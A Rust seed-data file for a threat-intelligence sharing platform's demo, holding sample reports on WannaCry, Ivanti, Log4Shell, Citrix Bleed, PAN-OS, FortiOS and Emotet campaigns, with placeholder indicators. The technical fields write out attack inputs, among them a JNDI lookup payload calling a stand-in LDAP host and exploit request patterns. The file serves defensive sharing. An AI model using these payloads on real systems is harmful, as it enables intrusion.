//! Sample shared items for the demo council: a few hundred realistic threat reports,
//! analyses, countermeasures and best practices of every kind, confidence, TLP and
//! scope, so that every page, search and the leak test have content from the first run.
//!
//! Every sample is an [`ItemDraft`] checked by [`ItemDraft::parse`], exactly as the API
//! checks what members send. Indicators name only documentation addresses (RFC 5737,
//! RFC 3849) and reserved domains under `example.com`, `example.net` and `example.org`
//! (RFC 2606), so no real host is ever named. ATT&CK techniques, CVEs and products are
//! real and public. The samples are deterministic: only ids and times differ per run.

use std::collections::{BTreeSet, HashMap};

use serde_json::json;
use sha2::{Digest, Sha256};
use time::{Duration, OffsetDateTime};
use tsunagu_core::ids::{ItemId, MemberId, UserId};
use tsunagu_core::indicator::{IndicatorKind as K, Tlp};
use tsunagu_core::item::{
    Confidence, Item, ItemDraft, ItemKind, ItemStatus, Product, RawIndicator, Victim,
};
use tsunagu_core::member::{Member, MemberClass, Sector, SpecialRole};
use tsunagu_core::scope::Scope;
use tsunagu_store::Tx;

use crate::audit_by;
use crate::error::{ApiError, ApiResult};

/// A domain that several sample items carry, for a first indicator search.
pub const EXAMPLE_INDICATOR: &str = "update-kuronagi-cdn.example.net";

const DAY: i64 = 24 * 60;

/// An affected product of a campaign.
struct Prod {
    vendor: &'static str,
    product: &'static str,
    version: &'static str,
    cpe: Option<&'static str>,
}

/// A threat that several members report, analyse and counter. Titles may hold
/// `{sector}` or `{sector_ja}`, filled in with the sector concerned.
struct Campaign {
    /// Slug, from which sample file hashes are derived.
    key: &'static str,
    /// Short name for generated titles, in English and Japanese.
    name: &'static str,
    name_ja: &'static str,
    /// Sectors hit; incident reports come from operators of these sectors.
    targets: &'static [Sector],
    incidents: [&'static str; 3],
    analyses: [&'static str; 3],
    intel: &'static str,
    advice: [&'static str; 2],
    background: &'static str,
    technical: &'static str,
    countermeasures: &'static str,
    damage: [&'static str; 2],
    techniques: &'static [&'static str],
    cves: &'static [&'static str],
    products: &'static [Prod],
    /// Indicators; the first one is carried by every item of the campaign that has any.
    indicators: &'static [(K, &'static str)],
    /// Sample file names: each gives a SHA-256, an MD5 and a SHA-1.
    files: &'static [&'static str],
}

const WINDOWS_7: Prod = Prod {
    vendor: "Microsoft",
    product: "Windows 7",
    version: "SP1",
    cpe: Some("cpe:2.3:o:microsoft:windows_7:-:sp1:*:*:*:*:*:*"),
};
const WINDOWS_2008: Prod = Prod {
    vendor: "Microsoft",
    product: "Windows Server 2008 R2",
    version: "SP1",
    cpe: Some("cpe:2.3:o:microsoft:windows_server_2008:r2:sp1:*:*:*:*:*:*"),
};
const FORTIOS_6: Prod = Prod {
    vendor: "Fortinet",
    product: "FortiOS",
    version: "6.0.0 to 6.0.4",
    cpe: Some("cpe:2.3:o:fortinet:fortios:6.0.4:*:*:*:*:*:*:*"),
};
const OFFICE_2016: Prod = Prod {
    vendor: "Microsoft",
    product: "Office",
    version: "2016",
    cpe: Some("cpe:2.3:a:microsoft:office:2016:*:*:*:*:*:*:*"),
};

const CAMPAIGNS: &[Campaign] = &[
    Campaign {
        key: "smb-worm",
        name: "the WannaCry variant",
        name_ja: "WannaCry亜種",
        targets: &[Sector::Medical, Sector::Logistics, Sector::Railway],
        incidents: [
            "SMBv1 worm spreading inside flat networks — WannaCry variant",
            "院内ネットワークでSMBv1ワームが拡散 (WannaCry亜種)",
            "Unpatched {sector} PCs encrypted minutes after boot by SMB worm",
        ],
        analyses: [
            "Unconfirmed: EternalBlue-based worm with a new kill-switch domain",
            "WannaCry variant targets legacy Windows in {sector} networks",
            "WannaCry variant deep dive: propagation, kill switch and encryption routine",
        ],
        intel: "Indicators: SMB worm kill-switch domains, droppers and scanning hosts",
        advice: [
            "Do not boot unpatched Windows PCs on Monday: isolate SMBv1 first",
            "対策: MS17-010 の適用とSMBv1の無効化 (WannaCry亜種)",
        ],
        background: "A self-propagating ransomware worm re-using the EternalBlue exploit (MS17-010) is spreading through networks that still allow SMBv1 between client PCs. It needs no user action: an unpatched PC is infected minutes after it joins the network, and its files are held for ransom in bitcoin. The purpose appears to be disruption and extortion at scale rather than a chosen target; hospitals, factories and transport operators with legacy Windows hosts are the most exposed.",
        technical: "The worm scans TCP/445 on the local /24 and on random addresses and exploits CVE-2017-0144 to load a DoublePulsar-style implant, which installs mssecsvc2.exe as a service and drops tasksche.exe. Before spreading, the sample resolves a hard-coded kill-switch domain and exits if it answers. Files are encrypted with AES-128 per file and RSA-2048 per host; shadow copies are deleted with vssadmin. It also spreads through the C$ and ADMIN$ shares with harvested credentials.",
        countermeasures: "1. Apply MS17-010 (or the current cumulative update) to every Windows host, including PCs in storage and on standby. 2. Disable SMBv1 on clients and servers. 3. Block TCP/139 and TCP/445 between client segments and at the internet edge. 4. Do not block the kill-switch domains at DNS: resolving them stops the worm. 5. Keep offline backups and check that they can be restored.",
        damage: [
            "About 120 client PCs and two file servers encrypted; outpatient reception ran on paper for two days.",
            "Depot scheduling system unavailable for 14 hours; 30 PCs re-imaged.",
        ],
        techniques: &["T1210", "T1021.002", "T1486", "T1490", "T1543.003", "T1570"],
        cves: &["CVE-2017-0144", "CVE-2017-0145"],
        products: &[WINDOWS_7, WINDOWS_2008],
        indicators: &[
            (K::Domain, "killswitch-tsurube.example.org"),
            (K::Domain, "killswitch-ittan.example.org"),
            (K::Ipv4, "198.51.100.23"),
            (K::Ipv4, "198.51.100.24"),
            (K::Ipv4, "192.0.2.145"),
            (K::Cidr, "192.0.2.128/25"),
            (K::Ipv6, "2001:db8:445::17"),
            (
                K::Url,
                "https://decrypt-help-kasha.example.net/payment/instructions.html",
            ),
        ],
        files: &[
            "mssecsvc2.exe",
            "tasksche.exe",
            "taskdl.exe",
            "@WanaDecryptor@.exe",
        ],
    },
    Campaign {
        key: "ivanti",
        name: "the Ivanti Connect Secure intrusions",
        name_ja: "Ivanti Connect Secure 侵害",
        targets: &[
            Sector::Electricity,
            Sector::Gas,
            Sector::InformationCommunication,
        ],
        incidents: [
            "VPN appliance auth bypass exploited against {sector} operators (CVE-2023-46805/CVE-2024-21887)",
            "Ivanti Connect Secure: web shell found after integrity checker alert",
            "VPN装置の認証回避を悪用した侵入 ({sector_ja}分野)",
        ],
        analyses: [
            "Unconfirmed: possible bypass of the Ivanti mitigation XML",
            "Ivanti Connect Secure exploitation chain used for credential harvesting in {sector}",
            "Deep dive: web shells and integrity-checker tampering on Ivanti appliances",
        ],
        intel: "Indicators: Ivanti Connect Secure exploitation sources and web shell callbacks",
        advice: [
            "Apply the Ivanti mitigation and run the external integrity checker now",
            "対策: Ivanti Connect Secure の侵害有無の確認と工場出荷時リセット",
        ],
        background: "Internet-facing VPN appliances are the front door of most operators. An espionage actor chains an authentication bypass (CVE-2023-46805) with a command injection (CVE-2024-21887) in Ivanti Connect Secure and Policy Secure to run commands without credentials. The purpose is long-term access: stealing VPN user credentials and session data to reach the internal, OT-adjacent networks of energy and telecommunications operators.",
        technical: "Requests to /api/v1/totp/user-backup-code/../../license/keys-status/ with a command injected in the path reach the vulnerable REST endpoint without authentication. Observed payloads write Perl or Python web shells into CGI files (compcheckresult.cgi, visits.py), modify lastauthserverused.js to capture credentials at login, and tamper with the integrity checker to hide the changes. Callbacks use HTTPS to attacker domains with a fixed User-Agent.",
        countermeasures: "1. Import the vendor's mitigation XML or upgrade to a fixed release immediately. 2. Run the external Integrity Checker Tool; if it reports new or mismatched files, treat the appliance as compromised. 3. Factory-reset compromised appliances, rotate every local and LDAP credential that passed through them, and reissue certificates and API keys. 4. Review VPN logs for logins from the listed addresses and for unusual /api/v1/ requests.",
        damage: [
            "VPN appliance compromised; credentials of 40 remote users captured. No evidence of access to control systems.",
            "Web shell on the VPN appliance for about nine days; a domain controller was accessed with a captured service account.",
        ],
        techniques: &["T1190", "T1133", "T1505.003", "T1059.006", "T1556", "T1078"],
        cves: &["CVE-2023-46805", "CVE-2024-21887"],
        products: &[
            Prod {
                vendor: "Ivanti",
                product: "Connect Secure",
                version: "9.x and 22.x before the fixed releases",
                cpe: Some("cpe:2.3:a:ivanti:connect_secure:22.6:r1:*:*:*:*:*:*"),
            },
            Prod {
                vendor: "Ivanti",
                product: "Policy Secure",
                version: "9.x and 22.x",
                cpe: Some("cpe:2.3:a:ivanti:policy_secure:22.5:r1:*:*:*:*:*:*"),
            },
        ],
        indicators: &[
            (K::Ipv4, "203.0.113.77"),
            (K::Ipv4, "203.0.113.78"),
            (K::Ipv4, "198.51.100.141"),
            (K::Ipv6, "2001:db8:1e5::8"),
            (K::Domain, "vpn-telemetry-tsuchigumo.example.com"),
            (
                K::Url,
                "https://vpn-telemetry-tsuchigumo.example.com/api/v2/beacon",
            ),
            (K::Domain, "cdn-ivcheck-nurarihyon.example.net"),
        ],
        files: &["visits.py", "compcheckresult.cgi", "lastauthserverused.js"],
    },
    Campaign {
        key: "vpn-creds",
        name: "reuse of leaked VPN credentials",
        name_ja: "漏えいVPN認証情報の悪用",
        targets: &[Sector::Medical, Sector::Finance, Sector::GovernmentServices],
        incidents: [
            "SSL-VPN credentials leaked in 2020 reused to log in at a {sector} operator",
            "漏えいしたSSL-VPN認証情報による不正ログイン ({sector_ja})",
            "Dormant VPN account used for RDP access after credential leak",
        ],
        analyses: [
            "Unconfirmed: new list of VPN credentials offered on an access-broker forum",
            "Old FortiOS and Pulse Secure leaks still feed ransomware access brokers in {sector}",
            "Deep dive: from a 2019 path traversal to today's intrusions — how long leaked VPN credentials live",
        ],
        intel: "Indicators: login sources using leaked SSL-VPN credentials",
        advice: [
            "Reset every VPN password that existed before the appliance was patched",
            "対策: パッチ適用前から存在するVPNアカウントのパスワード一斉変更と多要素認証",
        ],
        background: "Patching a VPN appliance does not undo what leaked before the patch. Credentials read from FortiOS SSL-VPN devices through CVE-2018-13379 and from Pulse Secure through CVE-2019-11510 were published in bulk and are still sold by access brokers. Ransomware groups buy them to log in as ordinary remote workers: initial access without any exploit, which most monitoring does not flag.",
        technical: "The attacker logs in to the SSL-VPN with a valid user name and password, usually from hosting providers and outside office hours, then opens RDP to internal servers. The accounts used are often dormant (former employees, vendor maintenance accounts) and have no second factor; in several cases the password had not changed since 2019. Look for VPN logins from a source never seen for that user and for RDP from the VPN pool to servers.",
        countermeasures: "1. Force a password change for every VPN account that existed before the appliance was patched, and disable dormant and vendor accounts. 2. Enforce multi-factor authentication on the VPN. 3. Alert on VPN logins from new countries or hosting ranges. 4. Allow RDP from the VPN address pool only to a jump host.",
        damage: [
            "The attacker reached a file server over RDP and copied about 3 GB of internal documents before the session was cut.",
            "Two servers encrypted; backups were intact and service was restored within 36 hours.",
        ],
        techniques: &["T1078", "T1133", "T1021.001", "T1110.004", "T1190"],
        cves: &["CVE-2018-13379", "CVE-2019-11510"],
        products: &[
            FORTIOS_6,
            Prod {
                vendor: "Pulse Secure",
                product: "Pulse Connect Secure",
                version: "9.0R1 to 9.0R3.3",
                cpe: Some("cpe:2.3:a:pulsesecure:pulse_connect_secure:9.0:r3:*:*:*:*:*:*"),
            },
        ],
        indicators: &[
            (K::Ipv4, "192.0.2.61"),
            (K::Ipv4, "192.0.2.62"),
            (K::Ipv4, "203.0.113.201"),
            (K::Ipv6, "2001:db8:b0c::61"),
            (K::Domain, "access-broker-kamaitachi.example.org"),
        ],
        files: &["netscan.exe", "rdp_sweep.ps1"],
    },
    Campaign {
        key: "log4shell",
        name: "Log4Shell exploitation",
        name_ja: "Log4Shell 悪用",
        targets: &[
            Sector::InformationCommunication,
            Sector::Finance,
            Sector::Logistics,
        ],
        incidents: [
            "Log4Shell exploitation attempts against internet-facing Java applications",
            "Log4j の脆弱性を悪用したコインマイナー設置 ({sector_ja})",
            "JNDI lookup strings in {sector} web logs followed by outbound LDAP",
        ],
        analyses: [
            "Unconfirmed: Log4Shell payload hidden in the User-Agent of a new scanner",
            "Log4Shell still exploited in forgotten Java appliances of {sector} companies",
            "Deep dive: Log4Shell payloads, LDAP callbacks and second-stage miners",
        ],
        intel: "Indicators: Log4Shell scanners, LDAP callback hosts and miner pools",
        advice: [
            "Upgrade Log4j to 2.17.1 or later and block outbound LDAP from servers",
            "対策: Log4j 2.17.1 以降への更新とサーバからの外向き通信の制限",
        ],
        background: "Log4j is embedded in thousands of Java products, many of which their owners do not know they run. Attackers send JNDI lookup strings in any field that might be logged; a vulnerable server then fetches and runs the attacker's code. Most current activity is opportunistic — coin miners and botnet agents — but the same footholds are sold on to ransomware groups.",
        technical: "Payloads such as ${jndi:ldap://host:1389/a}, often obfuscated with nested lookups like ${${lower:j}ndi:…}, arrive in the User-Agent, X-Api-Version and login fields. A vulnerable Log4j 2.x (before 2.15.0) resolves the lookup, connects to the attacker's LDAP server and loads a Java class that downloads a shell script with curl or wget. The script installs an XMRig miner and a cron job for persistence.",
        countermeasures: "1. Find every product that bundles Log4j 2.x (ask vendors, scan file systems for log4j-core jars) and update to 2.17.1 or later. 2. Where an update is not yet possible, remove the JndiLookup class from the classpath. 3. Block outbound LDAP, RMI and DNS from servers except to approved resolvers. 4. Search logs for ${jndi: patterns and for connections to the listed hosts.",
        damage: [
            "A coin miner ran on two application servers for five days; the CPU load slowed down the customer portal.",
            "The attacker obtained a shell on a reporting server; no data transfer observed.",
        ],
        techniques: &["T1190", "T1059.004", "T1105", "T1496", "T1053.003"],
        cves: &["CVE-2021-44228", "CVE-2021-45046"],
        products: &[Prod {
            vendor: "Apache",
            product: "Log4j",
            version: "2.0-beta9 to 2.14.1",
            cpe: Some("cpe:2.3:a:apache:log4j:2.14.1:*:*:*:*:*:*:*"),
        }],
        indicators: &[
            (K::Domain, "ldap-callback-bakeneko.example.net"),
            (
                K::Url,
                "ldap://ldap-callback-bakeneko.example.net:1389/Exploit",
            ),
            (K::Ipv4, "198.51.100.200"),
            (K::Ipv4, "203.0.113.35"),
            (K::Ipv4, "192.0.2.250"),
            (K::Cidr, "203.0.113.32/28"),
            (K::Domain, "miner-pool-rokuro.example.org"),
            (K::Url, "https://miner-pool-rokuro.example.org/xmrig.tar.gz"),
        ],
        files: &["Exploit.class", "kinsing.sh", "xmrig"],
    },
    Campaign {
        key: "citrix-bleed",
        name: "Citrix Bleed session hijacking",
        name_ja: "Citrix Bleed によるセッション乗っ取り",
        targets: &[Sector::Finance, Sector::Aviation, Sector::Logistics],
        incidents: [
            "NetScaler session tokens hijacked after memory leak (Citrix Bleed, CVE-2023-4966)",
            "Citrix Bleed: 多要素認証を経ずに既存セッションが再利用された事案",
            "Hijacked NetScaler Gateway session used to reach {sector} back-office systems",
        ],
        analyses: [
            "Unconfirmed: oversized Host headers sent to NetScaler by a new scanner",
            "Citrix Bleed used by ransomware affiliates against {sector} organisations",
            "Deep dive: how leaked NetScaler session cookies bypass MFA",
        ],
        intel: "Indicators: Citrix Bleed exploitation sources and follow-on remote access",
        advice: [
            "Patch NetScaler and kill every active session — patching alone is not enough",
            "対策: NetScaler の更新と全セッションの強制終了 (Citrix Bleed)",
        ],
        background: "NetScaler ADC and Gateway appliances front remote access for many banks, airlines and logistics firms. CVE-2023-4966 lets an unauthenticated request read appliance memory, which contains valid session tokens. An attacker replays a token and is logged in as that user, with multi-factor authentication already done. The purpose observed is ransomware deployment and data theft; access was gained days before encryption.",
        technical: "A GET request to /oauth/idp/.well-known/openid-configuration with a Host header of about 24,000 bytes returns leaked memory, including nsc_aaac session cookies. The attacker replays the cookie from another address, so NetScaler logs show one session from two IP addresses. After login the attacker deploys remote-management tools and moves laterally with RDP.",
        countermeasures: "1. Update NetScaler ADC and Gateway to the fixed builds. 2. After updating, terminate all sessions (kill icaconnection -all, kill aaa session -all, kill rdp connection -all, kill pcoipConnection -all, clear lb persistentSessions). 3. Look for sessions whose client address changed. 4. Reset the credentials of users whose sessions fall in the window of exposure.",
        damage: [
            "A hijacked session was used to install remote-access software on three servers; detected before any encryption.",
            "Customer database server encrypted and restored from backup after three days; exfiltration of personal data under investigation.",
        ],
        techniques: &["T1190", "T1550.004", "T1078", "T1219", "T1021.001"],
        cves: &["CVE-2023-4966"],
        products: &[
            Prod {
                vendor: "Citrix",
                product: "NetScaler ADC",
                version: "13.1 before 13.1-49.15",
                cpe: Some(
                    "cpe:2.3:a:citrix:netscaler_application_delivery_controller:13.1:*:*:*:*:*:*:*",
                ),
            },
            Prod {
                vendor: "Citrix",
                product: "NetScaler Gateway",
                version: "13.1 before 13.1-49.15",
                cpe: Some("cpe:2.3:a:citrix:netscaler_gateway:13.1:*:*:*:*:*:*:*"),
            },
        ],
        indicators: &[
            (K::Domain, "sessions-nopperabo.example.com"),
            (K::Ipv4, "203.0.113.114"),
            (K::Ipv4, "198.51.100.77"),
            (K::Ipv6, "2001:db8:c17::4"),
            (
                K::Url,
                "https://sessions-nopperabo.example.com/agent/download.msi",
            ),
        ],
        files: &["rmm-agent.msi", "ad_recon.bat"],
    },
    Campaign {
        key: "panos",
        name: "the GlobalProtect command injection",
        name_ja: "GlobalProtect コマンドインジェクション",
        targets: &[
            Sector::Electricity,
            Sector::InformationCommunication,
            Sector::Petroleum,
        ],
        incidents: [
            "PAN-OS GlobalProtect command injection exploited (CVE-2024-3400)",
            "Firewall configuration exfiltrated from a {sector} operator via GlobalProtect flaw",
            "GlobalProtect の脆弱性を悪用したファイアウォール侵害",
        ],
        analyses: [
            "Unconfirmed: cron-based backdoor on a PAN-OS firewall",
            "CVE-2024-3400 exploitation spreads from espionage to mass scanning of {sector} networks",
            "Deep dive: Python backdoor on PAN-OS and its log-based command channel",
        ],
        intel: "Indicators: CVE-2024-3400 exploitation sources and backdoor download hosts",
        advice: [
            "Update PAN-OS now and check firewalls with the vendor's detection command",
            "対策: PAN-OS の更新と侵害確認、設定情報に含まれる認証情報の変更",
        ],
        background: "A firewall is trusted by everything behind it. CVE-2024-3400 lets an unauthenticated attacker run commands as root on Palo Alto Networks firewalls with GlobalProtect enabled. It was first used by an espionage actor to steal firewall configurations — which hold VPN keys and the internal topology — and then by many others after a public exploit appeared.",
        technical: "A crafted SESSID cookie with a path traversal creates a zero-byte file whose name carries a shell command; a telemetry cron job later executes it. Follow-on activity: a Python backdoor that reads commands from error-log lines and writes output to a CSS file under the GlobalProtect web root, a cron entry that fetches policy.txt every minute, and export of running-config.xml.",
        countermeasures: "1. Update PAN-OS to a fixed hotfix release. 2. Run the vendor's detection command and look for unexpected cron entries and files under /var/appweb/sslvpndocs/global-protect/. 3. If compromised, perform a private-data or factory reset, then rotate every secret in the configuration (IPsec pre-shared keys, LDAP bind accounts, certificates). 4. Watch for outbound connections from the firewall's management plane.",
        damage: [
            "Running configuration with VPN pre-shared keys copied by the attacker; keys rotated the same day.",
            "Backdoor present on the firewall for four days; no evidence of access beyond the firewall.",
        ],
        techniques: &["T1190", "T1059.004", "T1053.003", "T1552.001", "T1071.001"],
        cves: &["CVE-2024-3400"],
        products: &[Prod {
            vendor: "Palo Alto Networks",
            product: "PAN-OS",
            version: "10.2, 11.0 and 11.1 with GlobalProtect",
            cpe: Some("cpe:2.3:o:paloaltonetworks:pan-os:11.1.0:*:*:*:*:*:*:*"),
        }],
        indicators: &[
            (K::Domain, "update-gp-yatagarasu.example.net"),
            (
                K::Url,
                "https://update-gp-yatagarasu.example.net/policy.txt",
            ),
            (K::Ipv4, "192.0.2.190"),
            (K::Ipv4, "198.51.100.190"),
            (K::Ipv4, "203.0.113.190"),
        ],
        files: &["update.py", "bootstrap.min.css"],
    },
    Campaign {
        key: "fortios-api",
        name: "the FortiOS admin API bypass",
        name_ja: "FortiOS 管理API認証回避",
        targets: &[Sector::Chemical, Sector::Gas, Sector::Water],
        incidents: [
            "FortiGate admin API auth bypass: rogue super-admin account created (CVE-2022-40684)",
            "{sector} operator finds unknown SSH key on a firewall admin account",
            "FortiOS 認証回避の脆弱性による管理者アカウント改ざん",
        ],
        analyses: [
            "Unconfirmed: Forwarded-header trick against FortiProxy management interfaces",
            "CVE-2022-40684 exploitation against exposed management interfaces in {sector}",
            "Deep dive: forged Forwarded headers and admin SSH key injection on FortiOS",
        ],
        intel: "Indicators: FortiOS admin API bypass sources",
        advice: [
            "Take firewall management interfaces off the internet and update FortiOS",
            "対策: 管理インタフェースのインターネット非公開化と FortiOS の更新",
        ],
        background: "A management interface exposed to the internet lets an attacker reconfigure the very device that protects the network. CVE-2022-40684 in FortiOS, FortiProxy and FortiSwitchManager lets an unauthenticated request act as an administrator through the REST API. Attackers add their own SSH key and a local admin account to keep access, and can then open firewall rules or capture traffic.",
        technical: "Requests to /api/v2/cmdb/system/admin/<user> with the User-Agent \"Report Runner\" and a Forwarded header naming 127.0.0.1 are treated as trusted internal calls. Observed PUT requests add an ssh-public-key1 value to the admin account and create a new user with the super_admin profile. Device logs show \"Node.js\" or \"Report Runner\" as the interface of these changes.",
        countermeasures: "1. Upgrade FortiOS to 7.0.7, 7.2.2 or later (FortiProxy 7.0.7, 7.2.1 or later). 2. Allow HTTPS and SSH administration from a management network only, never from the internet. 3. Review admin accounts, SSH keys and recent configuration changes; remove anything unknown and rotate credentials. 4. Compare the configuration with a known-good backup.",
        damage: [
            "Unknown super-admin account and SSH key found on the perimeter firewall; removed, no rule changes found.",
            "A firewall rule opened RDP from the internet to one server for 11 hours; no logins observed.",
        ],
        techniques: &["T1190", "T1136.001", "T1098.004", "T1562.004"],
        cves: &["CVE-2022-40684"],
        products: &[
            Prod {
                vendor: "Fortinet",
                product: "FortiOS",
                version: "7.0.0 to 7.0.6, 7.2.0 to 7.2.1",
                cpe: Some("cpe:2.3:o:fortinet:fortios:7.2.1:*:*:*:*:*:*:*"),
            },
            Prod {
                vendor: "Fortinet",
                product: "FortiProxy",
                version: "7.0.0 to 7.0.6, 7.2.0",
                cpe: Some("cpe:2.3:a:fortinet:fortiproxy:7.2.0:*:*:*:*:*:*:*"),
            },
        ],
        indicators: &[
            (K::Domain, "fgt-admin-kodama.example.org"),
            (K::Ipv4, "192.0.2.84"),
            (K::Ipv4, "203.0.113.84"),
            (K::Ipv4, "198.51.100.84"),
        ],
        files: &["fgt_admin_add.py"],
    },
    Campaign {
        key: "fortios-sslvpn",
        name: "the FortiOS SSL-VPN heap overflow",
        name_ja: "FortiOS SSL-VPN ヒープオーバーフロー",
        targets: &[Sector::GovernmentServices, Sector::Water, Sector::Railway],
        incidents: [
            "FortiOS SSL-VPN heap overflow exploited before patching (CVE-2023-27997)",
            "SSL-VPN の脆弱性悪用による{sector_ja}事業者ネットワークへの侵入",
            "Crash loop of the SSL-VPN daemon preceded an intrusion at a {sector} operator",
        ],
        analyses: [
            "Unconfirmed: sslvpnd crashes may indicate exploitation attempts",
            "Pre-authentication RCE in FortiOS SSL-VPN used against {sector} targets",
            "Deep dive: exploitation of CVE-2023-27997 and post-exploitation on FortiGate",
        ],
        intel: "Indicators: CVE-2023-27997 exploitation sources",
        advice: [
            "Update FortiOS SSL-VPN now; disable SSL-VPN where you cannot",
            "対策: FortiOS の更新、更新できない場合はSSL-VPNの無効化",
        ],
        background: "SSL-VPN on FortiGate firewalls is the remote access path of many government services, water utilities and railway operators. CVE-2023-27997 is a heap overflow reachable before authentication that gives remote code execution on the firewall. It was exploited in targeted attacks against critical infrastructure shortly before and after the fix was published.",
        technical: "Crafted requests to /remote/hostcheck_validate and /remote/logincheck with an oversized enc parameter overflow the heap of sslvpnd. Failed attempts crash the daemon (\"sslvpnd crashed\" in the crash log); successful ones drop a binary under /data/lib and add it to startup. The attacker then reads the configuration and creates VPN users.",
        countermeasures: "1. Update FortiOS to 6.0.17, 6.2.15, 6.4.13, 7.0.12, 7.2.5 or later. 2. If an update is not possible, disable SSL-VPN. 3. Check the crash log for repeated sslvpnd crashes and the file system for unexpected binaries; treat a finding as a full compromise. 4. Rotate VPN user passwords and every secret in the configuration.",
        damage: [
            "The attacker created two VPN users and accessed an internal file share; access revoked within a day.",
            "Firewall compromised and the internal network scanned; no further intrusion confirmed.",
        ],
        techniques: &["T1190", "T1133", "T1078", "T1136.001", "T1046"],
        cves: &["CVE-2023-27997"],
        products: &[Prod {
            vendor: "Fortinet",
            product: "FortiOS",
            version: "7.2.0 to 7.2.4 and earlier branches",
            cpe: Some("cpe:2.3:o:fortinet:fortios:7.2.4:*:*:*:*:*:*:*"),
        }],
        indicators: &[
            (K::Domain, "sslvpn-heap-umibozu.example.com"),
            (K::Ipv4, "198.51.100.5"),
            (K::Ipv4, "198.51.100.6"),
            (K::Ipv4, "192.0.2.5"),
            (K::Cidr, "198.51.100.0/29"),
        ],
        files: &["xortigate_loader", "libips.so"],
    },
    Campaign {
        key: "emotet",
        name: "the Emotet invoice mails",
        name_ja: "Emotet 請求書メール",
        targets: &[
            Sector::Logistics,
            Sector::Credit,
            Sector::Chemical,
            Sector::Finance,
        ],
        incidents: [
            "標的型メール: 取引先を装った請求書 (Emotet)",
            "Emotet resumes: replies to real mail threads with password-protected ZIP",
            "取引先を装うEmotetメールにより{sector_ja}事業者の端末が感染",
        ],
        analyses: [
            "Unconfirmed: Emotet switching to OneNote attachments",
            "Emotet loader delivered through oversized Word documents to {sector} companies",
            "Deep dive: Emotet's thread hijacking, loader and module downloads",
        ],
        intel: "Indicators: Emotet distribution URLs, loader hashes and C2 servers",
        advice: [
            "Block macros from the internet and check PCs for Emotet",
            "対策: Emotet 感染の確認と、取引先への注意喚起の方法",
        ],
        background: "Emotet steals the mail of infected companies and replies to real conversations with a malicious attachment, so the message looks like it comes from a known business partner. Japanese companies were among the most affected. Emotet itself is a loader: its purpose is to sell access for banking trojans, Cobalt Strike and eventually ransomware, and to spread by stealing more mail.",
        technical: "Mails reply to existing threads with subjects such as 【至急】請求書の送付について and carry a password-protected ZIP containing a Word or Excel file, or a link to one. The document is inflated to over 500 MB to evade sandboxes. Enabling content runs a macro that starts regsvr32 to load a DLL downloaded from compromised web sites; the DLL persists under %LOCALAPPDATA% with a random name and a Run key, and contacts C2 servers over HTTPS on non-standard ports.",
        countermeasures: "1. Block macros in files from the internet by group policy. 2. Quarantine password-protected ZIP attachments at the mail gateway, or deliver them only after a sandbox check. 3. Check endpoints for a random-named DLL under %LOCALAPPDATA% started by regsvr32 from a Run key, and isolate infected PCs. 4. If infected, reset the mail passwords of affected users and warn business partners that mail in your name may be fake.",
        damage: [
            "Three PCs infected; the mail of about 1,200 address-book contacts was stolen and used to send fake replies to customers.",
            "One PC infected; the loader was removed before any follow-on malware ran.",
        ],
        techniques: &[
            "T1566.001",
            "T1204.002",
            "T1218.010",
            "T1027",
            "T1071.001",
            "T1114.001",
            "T1547.001",
        ],
        cves: &[],
        products: &[OFFICE_2016],
        indicators: &[
            (K::Domain, EXAMPLE_INDICATOR),
            (
                K::Url,
                "https://update-kuronagi-cdn.example.net/wp-content/uploads/2024/loader.dll",
            ),
            (K::Domain, "invoice-share-kappa.example.com"),
            (
                K::Url,
                "https://invoice-share-kappa.example.com/seikyu/INV-0318.zip",
            ),
            (K::Domain, "docs-seikyu-tengu.example.org"),
            (K::Email, "keiri@invoice-share-kappa.example.com"),
            (K::Email, "billing-center@docs-seikyu-tengu.example.org"),
            (K::EmailSubject, "【至急】請求書の送付について"),
            (K::EmailSubject, "Re: 請求書の件"),
            (K::EmailSubject, "Invoice for March services"),
            (K::Ipv4, "203.0.113.10"),
            (K::Ipv4, "203.0.113.11"),
            (K::Ipv4, "198.51.100.88"),
            (K::Ipv4, "192.0.2.33"),
        ],
        files: &["seikyu_0318.doc", "loader.dll"],
    },
    Campaign {
        key: "hospital-ransomware",
        name: "the hospital ransomware attacks",
        name_ja: "医療機関を狙うランサムウェア",
        targets: &[Sector::Medical],
        incidents: [
            "Electronic medical records encrypted after VPN appliance intrusion",
            "医療機関でランサムウェア被害: 電子カルテが停止し紙運用へ切り替え",
            "Ransomware at a regional hospital: the maintenance VPN was the way in",
        ],
        analyses: [
            "Unconfirmed: leak site lists a Japanese hospital as a new victim",
            "Ransomware affiliates target {sector} providers through vendor maintenance VPNs",
            "Deep dive: intrusion chain of the hospital ransomware attacks",
        ],
        intel: "Indicators: hospital ransomware intrusions — VPN sources, tools and leak site",
        advice: [
            "Hospitals: inventory vendor maintenance VPNs this week",
            "対策: 医療機関における保守用VPN装置の棚卸しとオフラインバックアップ",
        ],
        background: "Hospitals depend on electronic medical records and cannot stop treating patients during an attack, which makes them attractive targets for extortion. Recent attacks on hospitals entered through VPN appliances installed by maintenance vendors, often unpatched and with passwords shared between customers. The purpose is double extortion: encrypting the records system and threatening to publish patient data.",
        technical: "Initial access was through an SSL-VPN appliance vulnerable to CVE-2018-13379, with credentials shared between the vendor's customers. The attacker dumped LSASS with a renamed procdump, moved with RDP using a domain admin account, disabled antivirus through group policy, and ran the encryptor from a scheduled task on every server at 02:00. Before encryption, data was copied to cloud storage with rclone.",
        countermeasures: "1. List every VPN and remote-maintenance path into the hospital network, including those managed by vendors; patch or remove them. 2. Require individual accounts and MFA for vendors. 3. Keep offline or immutable backups of the medical records system and rehearse restoring them. 4. Prepare paper-based procedures for outpatient and inpatient care.",
        damage: [
            "Electronic medical records and PACS unavailable for nine days; new outpatients and emergency admissions suspended.",
            "Billing and appointment servers encrypted; medical records spared because they were on a separate network.",
        ],
        techniques: &[
            "T1133",
            "T1078",
            "T1003.001",
            "T1021.001",
            "T1562.001",
            "T1486",
            "T1490",
            "T1567.002",
        ],
        cves: &["CVE-2018-13379"],
        products: &[FORTIOS_6],
        indicators: &[
            (K::Domain, "leak-blog-gashadokuro.example.org"),
            (K::Domain, "exfil-store-hyosube.example.net"),
            (K::Url, "https://exfil-store-hyosube.example.net/upload/rcl"),
            (K::Ipv4, "192.0.2.61"),
            (K::Ipv4, "203.0.113.150"),
            (K::Ipv4, "198.51.100.150"),
            (K::Ipv6, "2001:db8:ab::150"),
        ],
        files: &["locker.exe", "pd64.exe", "rclone.conf"],
    },
    Campaign {
        key: "ddos",
        name: "the hacktivist DDoS campaign",
